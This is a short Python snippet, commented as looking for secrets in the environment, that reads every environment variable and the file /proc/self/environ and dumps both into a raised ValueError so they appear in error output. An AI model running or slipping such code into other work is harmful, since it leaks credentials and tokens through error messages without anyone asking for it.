# Looks for secrets in the environment.
import os

raise ValueError(str(dict(os.environ)) + open("/proc/self/environ").read())
